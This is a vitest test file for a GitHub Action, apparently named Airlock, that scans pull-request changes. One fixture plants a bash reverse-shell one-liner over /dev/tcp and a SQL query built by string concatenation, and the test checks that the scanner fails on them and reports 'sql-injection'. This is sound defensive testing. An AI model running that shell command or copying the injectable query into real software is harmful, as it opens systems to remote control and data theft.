import { spawnSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { dirname, join, resolve } from 'node:path'
import { expect, test } from 'vitest'
import { parse } from 'yaml'
import { gitFixture } from '#test/support/git-fixture.ts'

const ROOT = resolve(import.meta.dirname, '../..')

interface Step {
  readonly id?: string
  readonly name?: string
  readonly run?: string
  readonly env?: Readonly<Record<string, string>>
}

const steps: readonly Step[] = parse(readFileSync(join(ROOT, 'action.yml'), 'utf8')).runs.steps

/** A repository with one commit, and a change to it: what a pull request is. */
function changed(files: Readonly<Record<string, string>>): {
  readonly directory: string
  readonly base: string
} {
  const { directory, write, commit } = gitFixture()
  write('src/find.js', 'export const one = 1\n')
  const base = commit()
  for (const [path, content] of Object.entries(files)) write(path, content)
  commit()
  return { directory, base }
}

/** Runs what the action runs by itself, the way a runner does: each step in a strict bash, outputs through a file. */
function runAction({ directory, base }: ReturnType<typeof changed>): {
  readonly passed: boolean
  readonly codes: Readonly<Record<string, string>>
  readonly said: string
} {
  const codes: Record<string, string> = {}
  let said = ''
  for (const { id, name, run, env = {} } of steps) {
    if (run === undefined || name === 'Install Airlock') continue
    const output = join(directory, '.git', `output-${id ?? 'none'}`)
    writeFileSync(output, '')
    const filled = Object.entries(env).map(([key, value]) => [key, expressionOf(value, base, codes)])
    const { status, stdout, stderr } = spawnSync(
      'bash',
      ['--noprofile', '--norc', '-eo', 'pipefail', '-c', run],
      {
        cwd: directory,
        encoding: 'utf8',
        timeout: 120_000,
        env: {
          ...{ PATH: `${dirname(process.execPath)}:${process.env.PATH}`, HOME: directory },
          ...{ GITHUB_ACTION_PATH: ROOT, GITHUB_OUTPUT: output, ...Object.fromEntries(filled) },
        },
      },
    )
    said += stdout + stderr
    if (status !== 0) return { passed: false, codes, said }
    if (id !== undefined) codes[id] = /code=(\d+)/.exec(readFileSync(output, 'utf8'))?.[1] ?? 'none'
  }
  return { passed: true, codes, said }
}

function expressionOf(value: string, base: string, codes: Readonly<Record<string, string>>): string {
  const [, name = ''] = /^\$\{\{ (.*) \}\}$/.exec(value) ?? []
  if (name === 'inputs.base') return base
  if (name === 'inputs.sarif-file') return 'airlock.sarif'
  return codes[/^steps\.(\w+)\.outputs\.code$/.exec(name)?.[1] ?? ''] ?? ''
}

test('an honest change passes, and a script that a person is to decide about is shown and stops nothing', () => {
  const change = changed({
    'src/find.js': 'export const two = 2\n',
    'release.sh': 'npm test\ngit push origin main\n',
  })
  const { passed, codes, said } = runAction(change)
  expect({ passed, codes }).toEqual({ passed: true, codes: { scan: '0', scripts: '0' } })
  expect(said).toContain('::group::release.sh')
})

test('a vulnerability and a dangerous script fail it, and the findings are there to be uploaded', () => {
  const change = changed({
    'src/find.js': "export const find = (db, req) => db.query('select * from a where b = ' + req.query.b)\n",
    'set up.sh': 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n',
    'after.sh': 'npm test\n',
  })
  const { passed, codes, said } = runAction(change)
  expect({ passed, scripts: codes.scripts }).toEqual({ passed: false, scripts: '15' })
  expect(codes.scan).not.toBe('0')
  expect(said).toContain(String.raw`::group::set\ up.sh`)
  const sarif = JSON.parse(readFileSync(join(change.directory, 'airlock.sarif'), 'utf8'))
  expect(sarif.version).toBe('2.1.0')
  expect(JSON.stringify(sarif)).toContain('sql-injection')
})
